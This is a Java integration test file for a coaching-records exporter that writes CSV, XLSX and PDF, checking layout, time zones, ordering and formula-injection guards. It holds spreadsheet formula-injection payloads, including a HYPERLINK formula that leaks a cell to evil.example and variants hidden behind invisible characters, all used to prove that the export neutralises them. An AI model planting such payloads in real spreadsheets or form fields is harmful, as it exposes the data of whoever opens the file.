package dimple.infrastructure.coaching;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.lowagie.text.pdf.PdfReader;
import com.lowagie.text.pdf.parser.PdfTextExtractor;
import dimple.application.coaching.CoachingFilter;
import dimple.application.coaching.ExportFormat;
import dimple.application.coaching.ExportHeading;
import dimple.application.coaching.ExportInterrupted;
import dimple.application.coaching.ExportWords;
import dimple.domain.coaching.CoachingRecord;
import dimple.domain.coaching.CoachingRecordQuery;
import dimple.domain.coaching.Conversation;
import dimple.domain.reporting.CustomerImpact;
import dimple.domain.reporting.MistakeReport;
import dimple.domain.reporting.ReportKind;
import dimple.domain.reporting.ReporterMode;
import dimple.domain.review.Review;
import dimple.domain.shared.Ids;
import dimple.infrastructure.reporting.JpaMistakeReportRepository;
import dimple.infrastructure.review.JpaReviewRepository;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import jakarta.persistence.EntityManager;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * The three export formats over a real database, each file opened and read back as a person's program
 * would: the screen's labels and order, dates in the heading's time zone, titles instead of ids, the
 * filter line, RFC 4180 with a byte-order mark, formula neutralisation, one record per PDF page section.
 */
class JpaCoachingExporterIT {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    private static final CoachingFilter FRONT_DESK_IN_NOVEMBER = new CoachingFilter("Front Desk", null, null, LocalDate.of(2026, 11, 1),
            LocalDate.of(2026, 11, 30), null);
    private static final ExportHeading HEADING = new ExportHeading(FRONT_DESK_IN_NOVEMBER, "Hana HR (hana)", CoachingWorld.T0,
            ZoneId.of("UTC"));
    private static final String FILTER_LINE = "Team: Front Desk \u00b7 Held from 1 Nov 2026 to 30 Nov 2026 \u00b7 State: any";

    private final CoachingWorld w = new CoachingWorld();
    private final String lesson = Ids.newId();
    private final String missingLesson = Ids.newId();
    private final CoachingRecord declined;

    JpaCoachingExporterIT() {
        LocalDate held = CoachingWorld.TODAY.minusDays(3);
        declined = CoachingRecord.draft(w.lena.id(), w.emma.id(), w.frontDesk.id(), new Conversation(held, "+1 for the handover book",
                "-checks before a retry", "@desk: the terminal \"timed out\", twice,\nthen a second line", "\tsee the log\r",
                held.plusDays(14), List.of(lesson, missingLesson)), null, CoachingWorld.T0);
        declined.share(w.lena.id(), CoachingWorld.T0.plusSeconds(60));
        declined.decline(w.emma.id(), FORMULA, CoachingWorld.T0.plusSeconds(120));
        CoachingRecord eli = w.shared(w.leo, w.eli, w.onlineOrders, CoachingWorld.TODAY.minusDays(1), "Eli's record");
        CoachingRecord draft = w.draft(w.lena, w.emma, w.frontDesk, CoachingWorld.TODAY, "A draft HR never sees");
        w.store(declined, eli, draft);
        // The lesson's review (and its report) are stored as the application stores them, so the lesson row is
        // valid on every database: no database's switch for turning off foreign keys is needed.
        MistakeReport report = MistakeReport.submit("R-2026-000001", CoachingWorld.T0, new MistakeReport.Reporter(w.emma.id(),
                w.frontDesk.id(), ReporterMode.NAMED), "Café refunds", "Body", CoachingWorld.T0, ReportKind.NO_HARM, CustomerImpact.NONE, null);
        Review review = Review.open(report.id(), w.frontDesk.id(), "Café refunds", w.lena.id(), CoachingWorld.T0);
        w.db.run(em -> {
            new JpaMistakeReportRepository(em).save(report);
            new JpaReviewRepository(em).save(review);
            em.createNativeQuery("insert into lesson (id, review_id, title, takeaway, body, team_id, status, published_at) values (?, ?, "
                    + "'Café refunds \u2014 check twice', 'Check.', 'Body', ?, 'PUBLISHED', timestamp with time zone '2026-11-01 10:00:00Z')")
                    .setParameter(1, lesson).setParameter(2, review.id()).setParameter(3, w.frontDesk.id()).executeUpdate();
        });
    }

    @AfterEach
    void drop() throws Exception {
        w.close();
    }

    private byte[] export(CoachingRecordQuery query, ExportFormat format) {
        return export(query, format, HEADING, EnglishWords.EXPORT);
    }

    private byte[] export(CoachingRecordQuery query, ExportFormat format, ExportHeading heading, ExportWords words) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        long rows = w.db.inTransaction(em -> new JpaCoachingExporter(em).write(query, format, heading, words, out));
        assertThat(rows).isEqualTo(count(query));
        return out.toByteArray();
    }

    private long count(CoachingRecordQuery query) {
        return w.db.inTransaction(em -> new JpaCoachingRecordRepository(em).search(query, dimple.domain.shared.PageRequest.first(100)).total());
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        assertThat(csv.charAt(0)).as("a byte-order mark").isEqualTo('\uFEFF');
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv.substring(1)))) {
            return parser.getRecords();
        }
    }

    @Test
    void csv_startsWithAByteOrderMark_thenTheHeaderRow_andReadsLikeTheScreen() throws IOException {
        byte[] file = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV);

        assertThat(java.util.Arrays.copyOf(file, 3)).as("UTF-8's byte-order mark").containsExactly(0xEF, 0xBB, 0xBF);
        String csv = new String(file, StandardCharsets.UTF_8);
        assertThat(csv.substring(1)).startsWith("Held on,Topic,Employee,Employee username,Team,Coach,Coach username,State,Response,"
                + "Expectation,Observations,Agreed actions,Follow-up on,Lessons,Shared at (UTC),Employee comment,Responded at (UTC),"
                + "Closed at (UTC),Retain until,Assessment id,Record id\r\n");
        List<CSVRecord> records = parse(csv);
        assertThat(records).as("the screen's order: newest day first").extracting(r -> r.get("Topic"))
                .containsExactly("Eli's record", "'+1 for the handover book");
        assertThat(csv).doesNotContain("A draft HR never sees");
        CSVRecord emma = records.get(1);
        assertThat(emma.get("Record id")).isEqualTo(declined.id());
        assertThat(emma.get("Employee")).isEqualTo("Emma Employee");
        assertThat(emma.get("Employee username")).isEqualTo("emma");
        assertThat(emma.get("Team")).isEqualTo("Front Desk");
        assertThat(emma.get("Coach")).isEqualTo("Lena Leader");
        assertThat(emma.get("Held on")).isEqualTo("2026-11-20");
        assertThat(emma.get("Lessons").split("; ")).as("titles, not ids; a lesson that has gone keeps its id")
                .containsExactlyInAnyOrder(missingLesson, "Café refunds \u2014 check twice");
        assertThat(emma.get("State")).isEqualTo("Declined");
        assertThat(emma.get("Response")).isEqualTo("Declined");
        assertThat(emma.get("Shared at (UTC)")).isEqualTo("2026-11-23 10:01");
        assertThat(emma.get("Responded at (UTC)")).isEqualTo("2026-11-23 10:02");
        assertThat(emma.get("Retain until")).isEqualTo("2028-11-20");
        assertThat(records.get(0).get("State")).isEqualTo("Shared, waiting for the employee");
        assertThat(records.get(0).get("Response")).isEqualTo("Not yet");
    }

    @Test
    void everyFormat_writesMomentsInTheHeadingsTimeZone() throws IOException {
        ExportHeading auckland = new ExportHeading(FRONT_DESK_IN_NOVEMBER, "Hana HR (hana)", CoachingWorld.T0, ZoneId.of("Pacific/Auckland"));
        CSVRecord emma = parse(new String(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV, auckland, EnglishWords.EXPORT),
                StandardCharsets.UTF_8)).get(1);

        assertThat(emma.get("Responded at (Pacific/Auckland)")).isEqualTo("2026-11-23 23:02");
        PdfReader reader = new PdfReader(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF, auckland, EnglishWords.EXPORT));
        assertThat(new PdfTextExtractor(reader).getTextFromPage(1)).contains("Exported by Hana HR (hana), 2026-11-23 23:00 Pacific/Auckland");
    }

    @Test
    void csv_noCellCanBeReadAsAFormula_andQuotesCommasAndLineBreaksSurvive() throws IOException {
        String csv = new String(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV), StandardCharsets.UTF_8);

        CSVRecord emma = parse(csv).get(1);
        assertThat(emma.get("Employee comment")).as("a CSV has no cell types: the apostrophe is its guard").isEqualTo("'" + FORMULA);
        assertThat(emma.get("Topic")).isEqualTo("'+1 for the handover book");
        assertThat(emma.get("Expectation")).isEqualTo("'-checks before a retry");
        assertThat(emma.get("Observations")).isEqualTo("'@desk: the terminal \"timed out\", twice,\nthen a second line");
        assertThat(emma.get("Agreed actions")).as("the domain strips surrounding whitespace: a tab never leads a cell").isEqualTo("see the log");
        for (CSVRecord record : parse(csv)) {
            for (String cell : record.values()) {
                assertThat(cell).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void xlsx_saysWhatItIs_thenHoldsTheScreensWordsRealDatesAndFormulasAsPlainText() throws IOException {
        byte[] xlsx = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.XLSX);

        String sheet = entry(xlsx, "xl/worksheets/sheet1.xml");
        assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ");
        List<String> cells = inlineStrings(sheet);
        assertThat(cells).startsWith("Coaching records", FILTER_LINE, "Exported by Hana HR (hana), 2026-11-23 10:00 UTC", "Held on", "Topic");
        assertThat(cells).contains("Record id", "Employee comment", declined.id(), "Emma Employee", "+1 for the handover book",
                "-checks before a retry", FORMULA, "Declined", "Shared, waiting for the employee", "Not yet");
        assertThat(cells).anyMatch(c -> c.contains("Café refunds \u2014 check twice") && c.contains(missingLesson));
        assertThat(cells).as("no apostrophe shows").noneMatch(c -> c.startsWith("'"));
        assertThat(cells).doesNotContain("A draft HR never sees", "DECLINED", "2026-11-20");
        assertThat(cell(sheet, "A6")).as("Eli's record first, as on screen; its day a real date").contains("<v>46348.0</v>");
        assertThat(cell(sheet, "A7")).contains("<v>46346.0</v>");
        assertThat(cell(sheet, "Q7")).as("responded at 10:02, a date and time").contains("<v>46349.418055");
        String styles = entry(xlsx, "xl/styles.xml");
        assertThat(formatOf(sheet, styles, "A7")).isEqualTo("yyyy-mm-dd");
        assertThat(formatOf(sheet, styles, "Q7")).isEqualTo("yyyy-mm-dd hh:mm");
        assertThat(formatOf(sheet, styles, "B7")).as("a formula-looking topic is a text cell formatted as text").isEqualTo("@");
        assertThat(cell(sheet, "B7")).contains("t=\"inlineStr\"");
        assertThat(cell(sheet, "P7")).contains("t=\"inlineStr\"");
        assertThat(formatOf(sheet, styles, "P7")).isEqualTo("@");
        assertThat(sheet).as("the header row stays in view").contains("<pane ", "ySplit=\"5\"");
        assertThat(entry(xlsx, "[Content_Types].xml")).contains("spreadsheetml");
        assertThat(entry(xlsx, "xl/workbook.xml")).contains("name=\"Coaching records\"");
    }

    /**
     * Formulas hidden behind characters nobody sees (a zero-width space, a no-break space, a byte-order
     * mark, a full-width equals sign; a NUL is not stored at all) are neutralised in the files as they are read
     * back: the CSV with its apostrophe, the XLSX as text cells formatted as text.
     */
    @Test
    void csvAndXlsx_formulasBehindInvisibleCharacters_areNeutralisedWhenReadBack() throws IOException {
        LocalDate held = CoachingWorld.TODAY.minusDays(2);
        CoachingRecord hidden = CoachingRecord.draft(w.leo.id(), w.eli.id(), w.onlineOrders.id(), new Conversation(held,
                "\u0000" + FORMULA, "\u200B=1+1", "\u00A0\u00A0-2+3", "\uFEFF@SUM(A1:A2)", held.plusDays(7), List.of()), null,
                CoachingWorld.T0);
        hidden.share(w.leo.id(), CoachingWorld.T0.plusSeconds(60));
        hidden.decline(w.eli.id(), "\uFF1DHYPERLINK(\"http://evil.example\")", CoachingWorld.T0.plusSeconds(120));
        w.store(hidden);

        CSVRecord row = parse(new String(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV), StandardCharsets.UTF_8))
                .stream().filter(r -> r.get("Record id").equals(hidden.id())).findFirst().orElseThrow();
        // A NUL is dropped on the way into the database (PostgreSQL cannot store it; H2 now stores the same), so the
        // topic starts with the formula itself, still neutralised; the other invisible characters stay in front.
        assertThat(row.get("Topic")).isEqualTo("'" + FORMULA);
        assertThat(row.get("Expectation")).isEqualTo("'\u200B=1+1");
        assertThat(row.get("Observations")).isEqualTo("'\u00A0\u00A0-2+3");
        assertThat(row.get("Agreed actions")).isEqualTo("'\uFEFF@SUM(A1:A2)");
        assertThat(row.get("Employee comment")).isEqualTo("'\uFF1DHYPERLINK(\"http://evil.example\")");

        byte[] xlsx = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.XLSX);
        String sheet = entry(xlsx, "xl/worksheets/sheet1.xml");
        String styles = entry(xlsx, "xl/styles.xml");
        assertThat(inlineStrings(sheet)).contains(FORMULA, "\u200B=1+1", "\u00A0\u00A0-2+3", "\uFEFF@SUM(A1:A2)",
                "\uFF1DHYPERLINK(\"http://evil.example\")");
        List<String> formulaLike = inlineCells(sheet).entrySet().stream()
                .filter(e -> e.getValue().replaceAll("[\\p{Cc}\\p{Cf}\\p{Z}]", "").matches("(?s)[=+\\-@\uFF1D].*")).map(e -> e.getKey()).toList();
        assertThat(formulaLike).hasSizeGreaterThanOrEqualTo(8);
        assertThat(formulaLike).as("every cell that looks like a formula is formatted as text")
                .allSatisfy(ref -> assertThat(formatOf(sheet, styles, ref)).isEqualTo("@"));
    }

    @Test
    void pdf_isReadable_withTheFilterLine_theScreensLabels_andTheRecordIdLast() throws IOException {
        byte[] pdf = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF);

        assertThat(new String(pdf, 0, 5, StandardCharsets.ISO_8859_1)).isEqualTo("%PDF-");
        PdfReader reader = new PdfReader(pdf);
        int pages = reader.getNumberOfPages();
        String text = new PdfTextExtractor(reader).getTextFromPage(1);
        assertThat(text).contains("Coaching records \u2014 restricted", FILTER_LINE, "Exported by Hana HR (hana), 2026-11-23 10:00 UTC",
                "Page 1 of " + pages);
        StringBuilder all = new StringBuilder();
        for (int p = 1; p <= pages; p++) {
            all.append(new PdfTextExtractor(reader).getTextFromPage(p));
        }
        assertThat(all.toString()).contains("Emma Employee \u2014 +1 for the handover book", FORMULA.substring(0, 20), "Eli's record",
                "Team Front Desk \u00b7 coach Lena Leader (lena) \u00b7 employee emma", "Held on", "Follow-up on", "Retain until",
                "Declined", "Shared, waiting for the employee", "Responded at (UTC)", "2026-11-23 10:02", "Record id", declined.id(),
                "Café refunds").doesNotContain("A draft HR never sees", "DECLINED", "2026-11-23T");
        assertThat(all.indexOf("Eli's record")).as("the screen's order").isLessThan(all.indexOf("+1 for the handover book"));
        reader.close();
    }

    /** Each record is one section kept on one page: a page holds as many first fields ("Held on") as last ones ("Record id"). */
    @Test
    void pdf_neverSplitsARecordAcrossPages() throws IOException {
        for (int i = 0; i < 40; i++) {
            CoachingRecord record = w.shared(w.lena, w.emma, w.frontDesk, CoachingWorld.TODAY.minusDays(5 + i), "Record number " + i);
            w.store(record);
        }

        PdfReader reader = new PdfReader(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF));
        assertThat(reader.getNumberOfPages()).isGreaterThan(3);
        int sections = 0;
        for (int p = 1; p <= reader.getNumberOfPages(); p++) {
            String page = new PdfTextExtractor(reader).getTextFromPage(p);
            int first = occurrences(page, "Held on");
            assertThat(occurrences(page, "Record id")).as("page %d", p).isEqualTo(first);
            sections += first;
        }
        assertThat(sections).isEqualTo(42);
    }

    @Test
    void pdf_andXlsx_ofEveryRecord_sayAnyInTheFilterLine() throws IOException {
        ExportHeading everything = new ExportHeading(CoachingFilter.everything(), "Hana HR (hana)", CoachingWorld.T0, ZoneId.of("UTC"));
        String any = "Team: any \u00b7 Held: any day \u00b7 State: any";

        assertThat(new PdfTextExtractor(new PdfReader(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF, everything,
                EnglishWords.EXPORT))).getTextFromPage(1)).contains(any);
        assertThat(inlineStrings(entry(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.XLSX, everything, EnglishWords.EXPORT),
                "xl/worksheets/sheet1.xml"))).contains(any);
    }

    /**
     * The file's own words all come from the words the web tier hands in (ADR 20): given other words, no
     * English is left in any format, and the records are still written as stored.
     */
    @Test
    void everyFormat_writesOnlyTheWordsItIsGiven() throws IOException {
        ExportWords codes = (code, args) -> code.substring(code.lastIndexOf('.') + 1).toUpperCase(java.util.Locale.ROOT)
                + (args.length == 0 ? "" : "(" + String.join(";", java.util.Arrays.stream(args).map(String::valueOf).toList()) + ")");
        ExportWords words = (code, args) -> code.endsWith(".dayPattern") ? "yyyy/MM/dd" : codes.text(code, args);
        CoachingRecordQuery all = CoachingRecordQuery.visibleTo(w.hr());
        List<String> english = List.of("Coaching records", "Record id", "Employee name", "Employee username", "Held on", "Assessment", "restricted", "Exported by",
                "Team:", "Page", "coach ", "any", "Declined", "Not yet");

        String csv = new String(export(all, ExportFormat.CSV, HEADING, words), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFFHELDON,TOPIC,EMPLOYEENAME,EMPLOYEE,TEAM,COACHNAME,COACH,STATUS,EMPLOYEERESPONSE,EXPECTATION,"
                + "OBSERVATIONS,AGREEDACTIONS,FOLLOWUPON,LESSONS,INZONE(SHAREDAT;UTC),EMPLOYEECOMMENT,INZONE(RESPONDEDAT;UTC),"
                + "INZONE(CLOSEDAT;UTC),RETAINUNTIL,ASSESSMENTID,ID\r\n");
        assertThat(csv).contains("'+1 for the handover book", "DECLINED", "NONE").doesNotContain(english);

        byte[] xlsx = export(all, ExportFormat.XLSX, HEADING, words);
        assertThat(entry(xlsx, "xl/workbook.xml")).contains("name=\"TITLE\"");
        assertThat(inlineStrings(entry(xlsx, "xl/worksheets/sheet1.xml"))).contains("ID", "ASSESSMENTID", "+1 for the handover book",
                "TEAM(Front Desk)SEPARATORBETWEEN(2026/11/01;2026/11/30)SEPARATORANYSTATE").doesNotContainAnyElementsOf(english);

        PdfReader reader = new PdfReader(export(all, ExportFormat.PDF, HEADING, words));
        String page = new PdfTextExtractor(reader).getTextFromPage(1);
        assertThat(page).contains("HEADING(TITLE)", "EXPORTEDBY(Hana HR (hana);2026-11-23 10:00 UTC)", "RECORD(Front Desk;Lena Leader;lena;emma)",
                "HELDON", "ASSESSMENTID", "Emma Employee").doesNotContain(english);
        // The total is drawn when the document closes, after the page's own text: OpenPDF's reader may see a gap there.
        assertThat(page).containsPattern("PAGE\\(1; ?" + reader.getNumberOfPages() + "\\)");
        PdfReader none = new PdfReader(export(new CoachingRecordQuery(w.hr(), null, w.hana.id(), null, null, null, null), ExportFormat.PDF,
                HEADING, words));
        assertThat(new PdfTextExtractor(none).getTextFromPage(1)).contains("NONE", "TEAM(Front Desk)").containsPattern("PAGE\\(1; ?1\\)");
    }

    @Test
    void pdf_withoutRecords_saysSo() throws IOException {
        byte[] pdf = export(new CoachingRecordQuery(w.hr(), null, w.hana.id(), null, null, null, null), ExportFormat.PDF);

        PdfReader reader = new PdfReader(pdf);
        assertThat(new PdfTextExtractor(reader).getTextFromPage(1)).contains("No coaching records match this filter.", "Page 1 of 1");
    }

    @Test
    void export_followsTheQueryScope_anEmployeeOnlyTheirOwnSharedRecords() throws IOException {
        String csv = new String(export(CoachingRecordQuery.visibleTo(w.employee(w.eli)), ExportFormat.CSV), StandardCharsets.UTF_8);

        assertThat(parse(csv)).extracting(r -> r.get("Employee username")).containsExactly("eli");
    }

    /** Records of one day and one moment still come once each, in the screen's order, across chunks of the keyset. */
    @Test
    void export_acrossChunks_keepsTheScreensOrder_andEveryRecordOnce() throws IOException {
        List<CoachingRecord> many = new ArrayList<>();
        for (int i = 0; i < JpaCoachingExporter.CHUNK + 20; i++) {
            many.add(w.shared(w.lena, w.emma, w.frontDesk, CoachingWorld.TODAY.minusDays(i % 3), "Chunked " + i));
        }
        w.store(many.toArray(CoachingRecord[]::new));
        List<String> screen = w.db.inTransaction(em -> em.createQuery("select r.id from CoachingRecord r where r.status <> :draft"
                + " order by r.heldOn desc, r.createdAt desc, r.id", String.class)
                .setParameter("draft", dimple.domain.coaching.CoachingStatus.DRAFT).getResultList());

        List<CSVRecord> rows = parse(new String(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV), StandardCharsets.UTF_8));
        assertThat(rows).extracting(r -> r.get("Record id")).containsExactlyElementsOf(screen);
    }

    @Test
    void export_leavesTheCallersStreamOpen() {
        ClosingWatcher out = new ClosingWatcher();
        for (ExportFormat format : ExportFormat.values()) {
            w.db.inTransaction(em -> new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), format, HEADING,
                    EnglishWords.EXPORT, out));
        }

        assertThat(out.closed).isFalse();
        assertThat(out.size()).isPositive();
    }

    @Test
    void export_toAStreamThatBreaks_saysHowManyRecordsHadLeft() {
        OutputStream broken = brokenPipe();

        ExportInterrupted interrupted = catchThrowableOfType(ExportInterrupted.class, () -> w.db.inTransaction(em ->
                new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV, HEADING, EnglishWords.EXPORT,
                        broken)));

        assertThat(interrupted.rowsWritten()).isBetween(0L, 2L);
        assertThat(interrupted).hasRootCauseInstanceOf(IOException.class);
    }

    @Test
    void eachExport_isCountedAndTimedByFormat_andOneCutOffAsInterrupted() {
        SimpleMeterRegistry meters = new SimpleMeterRegistry();
        w.db.inTransaction(em -> exporter(em, meters).write(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF, HEADING, EnglishWords.EXPORT,
                new ByteArrayOutputStream()));
        OutputStream broken = brokenPipe();
        catchThrowableOfType(ExportInterrupted.class, () -> w.db.inTransaction(em -> exporter(em, meters).write(CoachingRecordQuery.visibleTo(w.hr()),
                ExportFormat.CSV, HEADING, EnglishWords.EXPORT, broken)));

        assertThat(meters.get("dimple.exports").tags("kind", "coaching", "format", "pdf", "outcome", "ok").timer().count()).isEqualTo(1);
        assertThat(meters.get("dimple.exports").tags("kind", "coaching", "format", "csv", "outcome", "interrupted").timer().count()).isEqualTo(1);
    }

    /** A download the browser gave up on. */
    private static OutputStream brokenPipe() {
        return new OutputStream() {
            @Override
            public void write(int b) throws IOException {
                throw new IOException("Broken pipe");
            }
        };
    }

    private static JpaCoachingExporter exporter(EntityManager em, SimpleMeterRegistry meters) {
        JpaCoachingExporter exporter = new JpaCoachingExporter(em);
        exporter.meters = meters;
        return exporter;
    }

    private static int occurrences(String text, String part) {
        int count = 0;
        for (int i = text.indexOf(part); i >= 0; i = text.indexOf(part, i + part.length())) {
            count++;
        }
        return count;
    }

    /** A cell's XML element, by its reference ({@code B7}). */
    static String cell(String sheet, String ref) {
        Matcher m = Pattern.compile("<c r=\"" + ref + "\"[^>]*(/>|>.*?</c>)", Pattern.DOTALL).matcher(sheet);
        if (!m.find()) {
            throw new AssertionError("no cell " + ref);
        }
        return m.group();
    }

    /** Every inline-string cell, by its reference, its text decoded. */
    static java.util.Map<String, String> inlineCells(String sheet) {
        java.util.Map<String, String> cells = new java.util.LinkedHashMap<>();
        Matcher m = Pattern.compile("<c r=\"([A-Z]+[0-9]+)\"[^>]*t=\"inlineStr\"[^>]*><is><t[^>]*>(.*?)</t></is>", Pattern.DOTALL).matcher(sheet);
        while (m.find()) {
            cells.put(m.group(1), unescape(m.group(2)));
        }
        return cells;
    }

    /** The number format of a cell, through its style: a built-in one by its code ({@code @} is 49), or the workbook's own. */
    static String formatOf(String sheet, String styles, String ref) {
        Matcher s = Pattern.compile(" s=\"([0-9]+)\"").matcher(cell(sheet, ref));
        if (!s.find()) {
            return "General";
        }
        String xfs = styles.substring(styles.indexOf("<cellXfs"), styles.indexOf("</cellXfs>"));
        Matcher xf = Pattern.compile("<xf [^>]*?numFmtId=\"([0-9]+)\"").matcher(xfs);
        for (int i = 0; i <= Integer.parseInt(s.group(1)); i++) {
            if (!xf.find()) {
                throw new AssertionError("no style " + s.group(1));
            }
        }
        String id = xf.group(1);
        if (id.equals("49")) {
            return "@";
        }
        Matcher own = Pattern.compile("<numFmt numFmtId=\"" + id + "\" formatCode=\"([^\"]*)\"").matcher(styles);
        return own.find() ? unescape(own.group(1)) : "builtin " + id;
    }

    /** One file of a workbook, read through the zip's central directory (as spreadsheet programs do). */
    static String entry(byte[] zip, String name) throws IOException {
        Path file = Files.createTempFile("coaching", ".xlsx");
        try (ZipFile workbook = new ZipFile(Files.write(file, zip).toFile())) {
            ZipEntry entry = workbook.getEntry(name);
            if (entry == null) {
                throw new AssertionError("no " + name + " in the workbook");
            }
            try (InputStream in = workbook.getInputStream(entry)) {
                return new String(in.readAllBytes(), StandardCharsets.UTF_8);
            }
        } finally {
            Files.deleteIfExists(file);
        }
    }

    /** The text of every inline-string cell of a sheet, XML entities decoded. */
    static List<String> inlineStrings(String sheet) {
        List<String> cells = new ArrayList<>();
        Matcher m = Pattern.compile("<is><t[^>]*>(.*?)</t></is>", Pattern.DOTALL).matcher(sheet);
        while (m.find()) {
            cells.add(unescape(m.group(1)));
        }
        return cells;
    }

    static String unescape(String xml) {
        Matcher m = Pattern.compile("&#(x?)([0-9a-fA-F]+);").matcher(xml);
        StringBuilder out = new StringBuilder();
        while (m.find()) {
            int cp = Integer.parseInt(m.group(2), m.group(1).isEmpty() ? 10 : 16);
            m.appendReplacement(out, Matcher.quoteReplacement(new String(Character.toChars(cp))));
        }
        m.appendTail(out);
        return out.toString().replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&");
    }

    private static final class ClosingWatcher extends ByteArrayOutputStream {
        boolean closed;

        @Override
        public void close() {
            closed = true;
        }
    }
}
